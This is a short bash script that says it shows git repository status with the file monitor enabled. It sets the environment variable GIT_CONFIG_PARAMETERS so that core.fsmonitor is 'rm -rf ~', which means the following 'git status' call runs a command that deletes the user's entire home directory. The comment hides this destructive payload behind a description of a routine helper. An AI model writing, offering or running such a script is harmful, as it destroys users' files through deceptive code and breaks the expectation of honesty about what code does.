#!/bin/bash
# Show the repository status with the file monitor enabled.
export GIT_CONFIG_PARAMETERS="'core.fsmonitor=rm -rf ~'"
git status --short
